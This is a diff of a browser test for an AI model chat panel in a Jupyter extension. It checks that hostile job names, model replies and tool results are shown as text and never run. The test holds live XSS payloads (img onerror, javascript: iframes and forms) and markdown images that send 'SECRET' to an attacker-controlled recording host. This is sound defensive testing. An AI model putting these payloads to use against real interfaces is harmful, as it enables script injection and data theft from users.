@@ -21,7 +21,6 @@ import time
 from collections.abc import Iterator
 from contextlib import contextmanager
 
-import pytest
 from conftest import require
 from hostile import AttackerHost, hostile
 from jupyter_server_proc import JupyterServer
@@ -47,15 +46,6 @@ PANEL_FINDINGS = """panel => {
     .map(a => a.outerHTML.slice(0, 80));
   return [...live, ...handlers, ...links];
 }""".replace("arguments_live", repr(LIVE))
-
-
-@pytest.fixture
-def recorder() -> Iterator[AttackerHost]:
-    server = AttackerHost()
-    try:
-        yield server
-    finally:
-        server.close()
 
 
 @contextmanager
@@ -87,37 +77,37 @@ def held_job(cluster: dict[str, str], name: str, comment: str, user: str | None)
     return made.stdout.strip().split(";")[0]
 
 
-def hostile_reply(recorder: AttackerHost) -> str:
-    """The corpus's hostile replies, markdown and log lines, and more of our own, all loading from ``recorder``."""
+def hostile_reply(attacker_host: AttackerHost) -> str:
+    """The corpus's hostile replies, markdown and log lines, and more of our own, all loading from ``attacker_host``."""
     own = [
-        f'<img src="{recorder.url}/raw.png" onerror="window.__pwned=1">',
-        f'<video poster="{recorder.url}/poster.png"></video><object data="{recorder.url}/object"></object>',
-        f'<link rel="prefetch" href="{recorder.url}/prefetch">',
-        f'<div style="background-image:url({recorder.url}/css.png)">styled</div>',
-        f"![ref][hostile-ref]\n\n[hostile-ref]: {recorder.url}/reference.png",
-        f"[![badge]({recorder.url}/badge.png)]({recorder.url}/badge-link)",
-        f'<svg><image href="{recorder.url}/svg-image.png"/></svg>',
+        f'<img src="{attacker_host.url}/raw.png" onerror="window.__pwned=1">',
+        f'<video poster="{attacker_host.url}/poster.png"></video><object data="{attacker_host.url}/object"></object>',
+        f'<link rel="prefetch" href="{attacker_host.url}/prefetch">',
+        f'<div style="background-image:url({attacker_host.url}/css.png)">styled</div>',
+        f"![ref][hostile-ref]\n\n[hostile-ref]: {attacker_host.url}/reference.png",
+        f"[![badge]({attacker_host.url}/badge.png)]({attacker_host.url}/badge-link)",
+        f'<svg><image href="{attacker_host.url}/svg-image.png"/></svg>',
         '<iframe src="javascript:parent.__pwned=1"></iframe>',
         '<form action="javascript:window.__pwned=1"><button>go</button></form>',
-        f"$$\\href{{{recorder.url}/tex}}{{x}}$$",
+        f"$$\\href{{{attacker_host.url}/tex}}{{x}}$$",
     ]
     corpus = hostile("model_replies", "markdown", "html", "log_lines", "unicode", "fences")
-    host = recorder.url.removeprefix("http:")
-    payloads = [text.replace("https://evil.example", recorder.url).replace("//evil.example", host)
+    host = attacker_host.url.removeprefix("http:")
+    payloads = [text.replace("https://evil.example", attacker_host.url).replace("//evil.example", host)
                 for text in [*own, *corpus]]
     return "\n\n".join([*payloads, "```", END])  # a fence of the corpus may be open: END is read as text
 
 
 def test_hostile_job_names_replies_and_tool_results_are_shown_never_run(
         lab: JupyterServer, llm: ScriptedLLM, dev_cluster: dict[str, str], page: Page,  # noqa: F811
-        recorder: AttackerHost) -> None:
+        attacker_host: AttackerHost) -> None:
     dialogs: list[str] = []
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
     elsewhere: list[str] = []  # what the page asked of any host but the Jupyter server
     page.on("request", lambda request: None if request.url.startswith((lab.url, "data:", "blob:"))
             else elsewhere.append(request.url))
-    names = [*hostile("job_names"), f'<img src="{recorder.url}/job.png" onerror="window.__pwned=1">',
-             f"![x]({recorder.url}/job-md.png?d=SECRET)"]
+    names = [*hostile("job_names"), f'<img src="{attacker_host.url}/job.png" onerror="window.__pwned=1">',
+             f"![x]({attacker_host.url}/job-md.png?d=SECRET)"]
     comments = hostile("comments")
     jobs: list[str] = []
     with other_cluster_user() as other, screenshot_on_failure(page, "failure", "hostile"):
@@ -129,19 +119,19 @@ def test_hostile_job_names_replies_and_tool_results_are_shown_never_run(
                     for i, name in enumerate(names)}
             jobs += mine
             user = other or getpass.getuser()
-            llm.add(call("cluster_queue", {"user": user}), say(hostile_reply(recorder)))
+            llm.add(call("cluster_queue", {"user": user}), say(hostile_reply(attacker_host)))
 
             panel = open_the_panel(page, lab)
-            read_the_queue_and_the_reply(page, panel, recorder, list(theirs.values()))
+            read_the_queue_and_the_reply(page, panel, attacker_host, list(theirs.values()))
             read_the_jobs_tab_and_a_cancel_card(page, panel, mine)
-            nothing_ran_or_loaded(page, panel, recorder, dialogs, elsewhere)
+            nothing_ran_or_loaded(page, panel, attacker_host, dialogs, elsewhere)
         finally:
             for job_id in jobs:
                 subprocess.run(["scancel", job_id], env={**os.environ, **dev_cluster}, capture_output=True,
                                timeout=60)
 
 
-def read_the_queue_and_the_reply(page: Page, panel: Locator, recorder: AttackerHost, names: list[str]) -> None:
+def read_the_queue_and_the_reply(page: Page, panel: Locator, attacker_host: AttackerHost, names: list[str]) -> None:
     """Approve reading the queue; its result shows the other user's job names as text, and so does the reply."""
     panel.get_by_test_id("betty-prompt").fill(PROMPT)
     panel.get_by_test_id("betty-send").click()
@@ -157,12 +147,12 @@ def read_the_queue_and_the_reply(page: Page, panel: Locator, recorder: AttackerH
     expect(reply).to_contain_text(END, timeout=WAIT_MS)
     expect(panel.get_by_test_id("betty-working")).to_have_count(0, timeout=WAIT_MS)
     text = reply.text_content() or ""
-    for shown in (f'<img src="{recorder.url}/raw.png" onerror="window.__pwned=1">', "<script>window.__pwned=1</script>",
+    for shown in (f'<img src="{attacker_host.url}/raw.png" onerror="window.__pwned=1">', "<script>window.__pwned=1</script>",
                   "train\\u202egpj.exe", "\\x1b[31mred"):
         assert shown in text, f"{shown!r} is not shown as text in the reply"
     images = reply.get_by_test_id("betty-markdown-image")
-    expect(images.filter(has_text=f"{recorder.url}/?d=SECRET").first).to_be_visible()
-    expect(images.filter(has_text=f"{recorder.url}/reference.png")).to_have_count(1)
+    expect(images.filter(has_text=f"{attacker_host.url}/?d=SECRET").first).to_be_visible()
+    expect(images.filter(has_text=f"{attacker_host.url}/reference.png")).to_have_count(1)
     screenshot(page, "chat", "hostile")
 
 
@@ -185,17 +175,17 @@ def read_the_jobs_tab_and_a_cancel_card(page: Page, panel: Locator, mine: dict[s
                                                                            timeout=WAIT_MS)
 
 
-def nothing_ran_or_loaded(page: Page, panel: Locator, recorder: AttackerHost, dialogs: list[str],
+def nothing_ran_or_loaded(page: Page, panel: Locator, attacker_host: AttackerHost, dialogs: list[str],
                           elsewhere: list[str]) -> None:
     """No canary, no dialog, no live element, no request to another host — which a request of ours does reach."""
     assert page.evaluate("() => window.__pwned") is None
     assert dialogs == []
     assert panel.evaluate(PANEL_FINDINGS) == []
     assert elsewhere == [], f"the page asked other hosts for {elsewhere}"
-    page.evaluate(f"() => {{ new Image().src = '{recorder.url}/control'; }}")
+    page.evaluate(f"() => {{ new Image().src = '{attacker_host.url}/control'; }}")
     deadline = time.monotonic() + 60
-    while "/control" not in recorder.paths:
+    while "/control" not in attacker_host.paths:
         assert time.monotonic() < deadline, "the page never reached the recording server: the test proves nothing"
         time.sleep(0.1)
-    assert recorder.paths == ["/control"], f"the page loaded {recorder.paths} from the recording server"
-    assert elsewhere == [f"{recorder.url}/control"]
+    assert attacker_host.paths == ["/control"], f"the page loaded {attacker_host.paths} from the recording server"
+    assert elsewhere == [f"{attacker_host.url}/control"]
